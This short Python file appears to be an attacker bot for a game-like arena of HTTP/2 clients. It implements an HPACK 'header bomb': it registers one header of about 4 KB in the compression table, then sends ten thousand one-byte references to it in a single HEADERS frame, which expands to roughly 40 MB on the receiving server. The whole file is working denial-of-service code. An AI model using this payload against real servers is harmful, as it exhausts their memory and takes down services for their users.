"""Names a header of 4 KB once and refers to it ten thousand times in a few bytes."""

from rawhttp2 import END_HEADERS, END_STREAM, HEADERS, RawBot, fields, frame

from arenabot.v1 import player_pb2 as player


class HeaderBomb(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        flags = END_HEADERS | END_STREAM
        entry = b"\x40" + fields(("x-bomb", "x" * 3900))[1:]  # with a place in the table of headers
        self.send(frame(HEADERS, entry + b"\xbe" * 10_000, flags=flags, stream=self.stream))


if __name__ == "__main__":
    HeaderBomb().serve()
